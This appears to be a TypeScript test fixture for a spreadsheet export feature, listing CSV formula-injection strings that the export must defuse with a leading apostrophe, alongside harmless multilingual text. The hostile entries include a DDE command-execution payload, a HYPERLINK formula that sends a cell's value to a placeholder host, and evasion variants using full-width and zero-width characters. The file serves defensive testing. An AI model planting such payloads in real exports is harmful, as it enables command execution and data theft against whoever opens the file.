/* Texts typed into a request, for the tests of the export. */

/** Texts that a spreadsheet could run as a formula. The export must put an apostrophe in front of each. */
export const hostile = [
  '=1+1',
  '=HYPERLINK("https://example.com/?x="&A2,"Click")',
  '=WEBSERVICE("https://example.com/")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '  =1+1',
  '\u00A0=1+1',
  '=1+1\nand a second line',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\u200B=1+1',
  '-',
  '+91 98765 43210',
];

/** Texts that could run where the list separator is `;` or a tab, and how they must arrive. */
export const hostileInside = new Map([
  ['\t=1+1', "'\t'=1+1"],
  ['\r=1+1', "'\r'=1+1"],
  ['\n=1+1', "'\n'=1+1"],
  ['a;=1+1', "a;'=1+1"],
  ['a; =1+1', "a;' =1+1"],
  ['a;"=1+1;b', 'a;\'"=1+1;b'],
  ['a\t=1+1', "a\t'=1+1"],
  ['a\n=1+1\nb', "a\n'=1+1\nb"],
  ['a;=HYPERLINK(A1;A2);b', "a;'=HYPERLINK(A1;A2);b"],
]);

/** Texts that must arrive unchanged. */
export const harmless = [
  'மீனாட்சி தலை வலி',
  'बिल्ली को बुख़ार है',
  'ಬೆಕ್ಕು ಊಟ ಮಾಡುತ್ತಿಲ್ಲ',
  'కుక్కకు జ్వరం',
  'പൂച്ച',
  'বিড়াল',
  'ਕੁੱਤਾ',
  'બિલાડી',
  'قطہ',
  '👩🏽‍⚕️🐈',
  'a "quoted" word, a comma; a semicolon',
  'two\nlines',
  'two\r\nlines',
  "'already quoted",
  'ends with a space ',
  '1+1',
  'a\tb',
  '<b>&amp;</b>',
  '_x0041_x0042_',
];
